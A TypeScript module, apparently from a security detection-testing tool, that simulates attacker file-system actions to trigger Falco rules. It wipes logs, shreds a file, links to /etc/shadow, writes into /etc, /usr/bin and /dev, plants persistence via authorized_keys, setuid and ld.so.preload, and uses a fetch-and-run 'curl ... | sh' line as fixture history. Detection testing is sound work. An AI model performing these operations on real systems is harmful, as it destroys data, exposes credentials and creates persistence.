/**
 * File system tampering: writes in system directories, links over sensitive files, clearing
 * logs and history, destroying data, persistence through keys and the dynamic linker.
 * Every file made outside the workspace has a unique name and is removed afterwards.
 *
 * @example
 * ```ts
 * const report = await runAction(FILESYSTEM_ACTIONS[0]); // through runner.ts, as saker simulate runs it
 * report.status; // "ok", "skipped" (a need missing here) or "failed"
 * ```
 * @module
 */

import type { Action } from "../action.ts";
import { incubating, sandbox } from "../action.ts";
import { requireCall, runCommand } from "../command.ts";
import { randomSuffix, removeIfPresent } from "../workspace.ts";
import { createFile, evidenceOf, expectExit, fakeHome, runHelper } from "./util.ts";

/** Creates `dir/saker-sim-<random><ext>` with the helper (O_CREAT|O_EXCL) and removes it later. */
function writeBelow(
  dir: string,
  ext: string,
  mode = "644",
): Action["run"] {
  return async (ctx) => {
    const path = `${dir}/saker-sim-${randomSuffix()}${ext}`;
    ctx.ws.defer(() => removeIfPresent(path));
    const r = await runHelper(ctx, ["open", path, "wcx", mode]);
    requireCall(r, "openat", true);
    return {
      facts: { "fd.name": path, "proc.name": "saker-sim", "proc.pid": r.pid },
      evidence: evidenceOf(r, "saker-sim open"),
    };
  };
}

/** File system actions. */
export const FILESYSTEM_ACTIONS: Action[] = [
  {
    name: "clear-log-file",
    rule: "Log file cleared",
    falcoRule: "Clear Log Activities",
    technique: "T1070.002",
    summary: "truncates a file named syslog (open with O_TRUNC), as log wipers do",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    falcoExpect: ["fd.name"],
    async run(ctx) {
      const log = ctx.ws.path("syslog");
      await createFile(log, "Jan  1 00:00:00 host sshd[1]: Accepted password for root\n", 0o640);
      const r = await runHelper(ctx, ["open", log, "wct"]);
      requireCall(r, "openat", true);
      return {
        facts: { "fd.name": log, "proc.name": "saker-sim", "proc.pid": r.pid },
        evidence: evidenceOf(r, "saker-sim open"),
      };
    },
  },
  {
    name: "shred-file",
    rule: "Data destruction tool run",
    falcoRule: "Remove Bulk Data from Disk",
    technique: "T1485",
    summary: "shred overwrites and removes a file",
    kind: "host",
    needs: [],
    expect: ["proc.name", "proc.pid"],
    falcoExpect: ["proc.name"],
    async run(ctx) {
      const f = ctx.ws.path("records.db");
      await createFile(f, "customer records\n".repeat(64));
      const r = await runCommand("shred", ["-u", f]);
      expectExit(r, "shred");
      return {
        facts: { "proc.name": "shred", "proc.pid": r.pid },
        evidence: evidenceOf(r, "shred"),
      };
    },
  },
  {
    name: "symlink-sensitive-file",
    rule: "Symlink to sensitive file created",
    falcoRule: "Create Symlink Over Sensitive Files",
    technique: "T1003.008",
    summary: "ln -s makes a symbolic link to /etc/shadow",
    kind: "host",
    needs: [],
    expect: ["evt.arg.target", "evt.arg.linkpath", "proc.name", "proc.pid"],
    falcoExpect: ["evt.arg.target", "evt.arg.linkpath"],
    async run(ctx) {
      const link = ctx.ws.path("shadow-link");
      const r = await runCommand("ln", ["-s", "/etc/shadow", link]);
      expectExit(r, "ln -s");
      return {
        facts: {
          "evt.arg.target": "/etc/shadow",
          "evt.arg.linkpath": link,
          "proc.name": "ln",
          "proc.pid": r.pid,
        },
        evidence: evidenceOf(r, "ln -s"),
      };
    },
  },
  {
    name: "hardlink-sensitive-file",
    rule: "Hardlink to sensitive file created",
    falcoRule: "Create Hardlink Over Sensitive Files",
    technique: "T1003.008",
    summary: "ln makes a hard link to /etc/shadow in a private directory (removed after)",
    kind: "host",
    needs: ["root"],
    expect: ["evt.arg.oldpath", "evt.arg.newpath", "proc.name", "proc.pid"],
    falcoExpect: ["evt.arg.oldpath", "evt.arg.newpath"],
    async run(ctx) {
      const link = ctx.ws.path("shadow-hardlink");
      ctx.ws.defer(() => removeIfPresent(link));
      const r = await runCommand("ln", ["/etc/shadow", link]);
      // EXDEV (another file system) still shows the attempt; anything else is a real failure.
      if (r.code !== 0 && !/cross-device|Invalid cross/i.test(r.stderr)) expectExit(r, "ln");
      return {
        facts: {
          "evt.arg.oldpath": "/etc/shadow",
          "evt.arg.newpath": link,
          "proc.name": "ln",
          "proc.pid": r.pid,
        },
        evidence: evidenceOf(r, "ln"),
      };
    },
  },
  {
    name: "write-below-etc",
    rule: "File written below /etc",
    technique: "T1543",
    summary: "creates a new configuration file below /etc (removed after)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    falcoTargets: [sandbox("Write below etc", "fd.name", "proc.name")],
    run: writeBelow("/etc", ".conf"),
  },
  {
    name: "write-below-binary-dir",
    rule: "File written below binary directory",
    technique: "T1036.005",
    summary: "creates a new executable file in /usr/bin (removed after)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    run: writeBelow("/usr/bin", "", "755"),
  },
  {
    name: "create-file-in-dev",
    rule: "Regular file created in /dev",
    technique: "T1564.001",
    summary: "creates a regular file directly in /dev, a hiding place for payloads (removed after)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    falcoTargets: [incubating("Create files below dev", "fd.name", "proc.name")],
    run: writeBelow("/dev", ""),
  },
  {
    name: "truncate-shell-history",
    rule: "Shell history cleared",
    technique: "T1070.003",
    summary: "a program other than the shell truncates a .bash_history file",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    falcoTargets: [
      incubating("Delete or rename shell history", "fd.name", "proc.name"),
      // .bash_history is one of the shell configuration files that rule watches.
      incubating("Modify Shell Configuration File", "fd.name", "proc.name"),
    ],
    async run(ctx) {
      await Deno.mkdir(ctx.ws.path("home"), { mode: 0o700 });
      const hist = ctx.ws.path("home/.bash_history");
      await createFile(hist, "curl http://203.0.113.10/x | sh\n");
      const r = await runHelper(ctx, ["open", hist, "wt"]);
      requireCall(r, "openat", true);
      return {
        facts: { "fd.name": hist, "proc.name": "saker-sim", "proc.pid": r.pid },
        evidence: evidenceOf(r, "saker-sim open"),
      };
    },
  },
  {
    name: "add-ssh-authorized-key",
    rule: "SSH authorized keys modified",
    technique: "T1098.004",
    summary: "a program other than the ssh tools opens a user's authorized_keys file for " +
      "writing (in a home directory made for it, removed after)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    falcoTargets: [incubating("Adding ssh keys to authorized_keys", "fd.name", "proc.name")],
    async run(ctx) {
      const keys = `${await fakeHome(ctx)}/.ssh/authorized_keys`;
      const r = await runHelper(ctx, ["open", keys, "wca", "600"]);
      requireCall(r, "openat", true);
      return {
        facts: { "fd.name": keys, "proc.name": "saker-sim", "proc.pid": r.pid },
        evidence: evidenceOf(r, "saker-sim open"),
      };
    },
  },
  {
    name: "set-setuid-bit",
    rule: "Setuid or setgid bit set",
    technique: "T1548.001",
    summary: "chmod u+s on a file in a private directory",
    kind: "host",
    needs: [],
    expect: ["proc.name", "proc.pid"],
    falcoTargets: [
      incubating("Set Setuid or Setgid bit", "evt.arg.filename", "proc.name", "evt.type"),
    ],
    async run(ctx) {
      const f = ctx.ws.path("helper-binary");
      await createFile(f, "#!/bin/sh\n", 0o755);
      const r = await runCommand("chmod", ["u+s", f]);
      expectExit(r, "chmod");
      return {
        facts: {
          "evt.type": "fchmodat",
          "evt.arg.filename": f,
          "proc.name": "chmod",
          "proc.pid": r.pid,
        },
        evidence: evidenceOf(r, "chmod"),
      };
    },
  },
  {
    name: "linker-preload-write",
    rule: "Dynamic linker preload file modified",
    technique: "T1574.006",
    summary: "opens /etc/ld.so.preload for appending (writes nothing; removed if it was absent)",
    kind: "host",
    needs: ["root", "gcc"],
    expect: ["fd.name", "proc.name", "proc.pid"],
    async run(ctx) {
      const path = "/etc/ld.so.preload";
      let existed = true;
      try {
        await Deno.lstat(path);
      } catch {
        existed = false;
      }
      // An empty preload list changes nothing for other programs; a present one is not touched.
      if (!existed) ctx.ws.defer(() => removeIfPresent(path));
      const r = await runHelper(ctx, ["open", path, existed ? "wa" : "wca"]);
      requireCall(r, "openat", true);
      return {
        facts: { "fd.name": path, "proc.name": "saker-sim", "proc.pid": r.pid },
        evidence: evidenceOf(r, "saker-sim open"),
      };
    },
  },
];
